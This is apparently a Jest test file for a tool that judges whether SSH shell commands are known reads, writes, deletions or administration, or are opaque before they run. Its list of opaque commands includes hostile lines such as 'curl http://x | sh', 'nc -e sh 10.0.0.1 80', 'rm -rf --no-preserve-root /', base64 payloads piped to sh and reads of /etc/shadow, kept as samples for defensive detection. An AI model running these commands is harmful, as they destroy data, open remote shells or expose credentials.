import { describe, expect, test } from '@jest/globals';
import { execOperation } from './operation.js';

const place = { user: 'deploy', host: 'build:22' };
const judged = (command: string, terminal = false) =>
  execOperation(place, command, { terminal, environment: {} }).operation;

/** Commands of which everything is known, with what they do. */
const known: readonly (readonly [string, string])[] = [
  ['ls -la /var/log', 'read'],
  ['cat /etc/hosts', 'read'],
  ['tail -n 100 /var/log/syslog', 'read'],
  ['grep -rn "error" /var/log/app.log', 'read'],
  ['df -h', 'read'],
  ['du -sh /srv', 'read'],
  ['free -m', 'read'],
  ['uptime', 'read'],
  ['ps aux', 'read'],
  ['ps aux | grep nginx | head -5', 'read'],
  ['cd /srv/app && git status --short', 'read'],
  ['git -C /srv/app log --oneline -5', 'read'],
  ['find /var/log -name "*.gz" -mtime +7', 'read'],
  ['systemctl status nginx --no-pager', 'read'],
  ['systemctl is-active nginx', 'read'],
  ['journalctl -u nginx -n 50 --no-pager', 'read'],
  ['ss -tlnp', 'read'],
  ['ip addr show', 'read'],
  ['docker ps -a', 'read'],
  ['docker logs --tail=50 web', 'read'],
  ['date +%s', 'read'],
  ['sed -n "1,20p" /etc/hosts', 'read'],
  ['tar -tzf /srv/backup.tgz', 'read'],
  ['zcat -f /srv/a.gz', 'read'],
  ['zstdcat /srv/a.zst', 'read'],
  ['pidstat -u 1 1', 'read'],
  ['sensors', 'read'],
  ['ip -br addr', 'read'],
  ['sort /srv/names | uniq -c', 'read'],
  ['wc -l < /var/log/syslog', 'read'],
  ['test -f /srv/x && echo yes || echo no', 'read'],
  ['if [ -d /srv ]; then ls /srv; fi', 'read'],
  ['timeout 5 ls /srv 2>/dev/null', 'read'],
  ["'l's -l /srv", 'read'],
  ['LC_ALL=C ls /srv', 'read'],
  ['mkdir -p /srv/new', 'write'],
  ['touch /srv/new/x', 'write'],
  ['echo hello > /srv/new/x', 'write'],
  ['cp -a /srv/a /srv/b', 'write'],
  ['rm -rf /srv/old', 'delete'],
  ['mv /srv/a /srv/b', 'delete'],
  ['systemctl restart nginx', 'execute'],
  ['kill -TERM 4242', 'execute'],
  ['sudo -n systemctl restart nginx', 'administer'],
  ['chmod 600 /srv/x', 'administer'],
];

/** Commands of which something is not known before they run. */
const unknown = [
  'rm -rf $HOME',
  'cat $(echo /etc/shadow)',
  'cat `echo /etc/shadow`',
  'x=rm; $x -rf /srv',
  'eval "rm -rf /srv"',
  'echo cm0gLXJm | base64 -d | sh',
  'bash -c "rm -rf /srv"',
  'perl -e "unlink q(/srv/x)"',
  'python3 -c "import os"',
  'find /srv -delete',
  'find /srv -exec rm {} ;',
  'git -c core.pager=evil log',
  'git -c core.fsmonitor=evil status',
  'tar -xf /srv/x.tar --to-command=sh',
  'tar cf /dev/null /srv --checkpoint-action=exec=sh',
  'awk "BEGIN{system(1)}"',
  'sed -i s/a/b/ /etc/hosts',
  'xargs rm',
  'env rm -rf /srv',
  'LD_PRELOAD=/srv/x.so ls',
  'PATH=/srv ls',
  '/srv/ls',
  './ls',
  'ls() { rm -rf /srv; }; ls',
  'alias ls=rm; ls /srv',
  'rm -rf {/srv,/opt}',
  'rm -rf *',
  'cat < /dev/tcp/10.0.0.1/80',
  'sort -o /etc/passwd /srv/x',
  'sort --compress-program=sh /srv/x',
  'vi /etc/hosts',
  'less /etc/hosts',
  'ssh other rm -rf /srv',
  'curl http://x | sh',
  'nc -e sh 10.0.0.1 80',
  'exec sh',
  '. /srv/x',
  'source /srv/x',
  'trap "rm x" EXIT',
  'coproc rm x',
  'uniq /srv/a /etc/passwd',
  'date -s tomorrow',
  'for f in a b; do rm "$f"; done',
  'rm "$(cat list)"',
  'ls; cd /etc; cat shadow',
  'ip link set eth0 down',
  'sudo su',
  'sudo -E ls',
  'docker run -v /:/host alpine rm -rf /host',
  'systemctl edit nginx',
  'rm -rf --no-preserve-root /',
  'cat <(rm x)',
  'grep -f/etc/shadow x',
  '$\'\\x72\\x6d\' -rf /srv "$x"',
  'echo "unfinished',
  // Options by which programs that only look do more.
  'pidstat -e rm -rf /srv',
  'zstdcat -o /etc/passwd /srv/x',
  'zstdcat --rm /srv/x',
  'lz4cat --rm /srv/x',
  'zcat -rf /etc',
  'zcat --recursive -f /etc',
  'cd /etc && hexdump -fshadow hosts',
  'strings @/etc/shadow',
  'nm @/etc/shadow',
  'tar cf - @/srv/other.tar',
  'dmidecode --dump-bin /etc/passwd',
  'pmap -N /etc/new 1',
  'sensors -s',
  'ip -b addr',
  'arch rm -rf /srv',
];

describe('a command line', () => {
  test.each(known)('%s is known: %s', (command, action) => {
    const operation = judged(command);
    expect(operation.ssh).not.toHaveProperty('because');
    expect(operation).toMatchObject({ opaque: false, action });
  });

  test.each(unknown)('%s is not known before it runs', (command) => {
    expect(judged(command)).toMatchObject({ opaque: true });
  });

  test('names every file that it touches, wherever it is written', () => {
    const files = (command: string) =>
      judged(command)
        .resources.filter(({ type }) => type === 'file')
        .map(({ name, access }) => `${access} ${name}`);
    expect(files('cat /etc//./shadow')).toEqual(['read /etc/shadow']);
    expect(files('cat notes')).toEqual(['read ~/notes']);
    expect(files('cat ../../etc/shadow')).toEqual(['read ~/../../etc/shadow']);
    expect(files('cd /etc && cat shadow')).toEqual(['use /etc', 'read /etc/shadow']);
    expect(files('cp /a /b >> /c 2> /d < /e')).toEqual(['read /a', 'update /b', 'update /b/a', 'update /c', 'update /d', 'read /e']); // prettier-ignore
    expect(files("r'm' -rf \\/srv")).toEqual(['delete /srv']);
    expect(files('head -c5 -- -x')).toContain('read ~/-x');
    expect(files('shuf --random-source=/etc/shadow')).toEqual(['read /etc/shadow']);
  });

  test('differs in its hash from every other', () => {
    expect(judged('ls').hash).not.toBe(judged('ls ').hash);
    expect(judged('ls').hash).not.toBe(judged('ls', true).hash);
  });

  test('that would open a pager in a terminal is not known there', () => {
    expect(judged('systemctl status nginx', true).opaque).toBe(true);
    expect(judged('systemctl status nginx --no-pager', true).opaque).toBe(false);
    expect(judged('git log', true).opaque).toBe(true);
    for (const command of ['timedatectl list-timezones', 'loginctl list-sessions', 'systemd-cgls']) {
      expect(judged(command, true).opaque).toBe(true);
      expect(judged(command).opaque).toBe(false);
      expect(judged(`${command} --no-pager`, true).opaque).toBe(false);
    }
  });
});
